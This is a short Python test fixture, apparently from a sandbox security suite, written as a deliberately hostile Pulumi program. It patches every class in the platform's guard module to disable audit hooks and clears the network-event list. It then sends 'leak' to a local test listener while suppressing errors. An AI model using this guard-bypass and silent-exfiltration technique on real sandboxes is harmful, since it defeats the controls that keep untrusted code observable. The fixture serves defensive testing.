"""Hostile: switch the audit-hook guard off the way finding 2 did (patch its class), then phone home to a
listener the test runs on this machine (port in MLPLAT_TEST_PORT), hiding any failure."""

import contextlib
import os
import socket
import sys

import pulumi_aws as aws

sandbox = sys.modules["mlops_platform.engine.sandbox"]
for name in dir(sandbox):  # every class the guard module has: a hook that is a method dies with it
    if isinstance(getattr(sandbox, name), type) and name != "SandboxViolation":
        with contextlib.suppress(Exception):
            getattr(sandbox, name).__call__ = lambda *args, **kwargs: None
sandbox.NETWORK_EVENTS = frozenset()
with contextlib.suppress(BaseException):
    socket.create_connection(("127.0.0.1", int(os.environ["MLPLAT_TEST_PORT"])), timeout=2).sendall(b"leak")
aws.s3.Bucket("data")
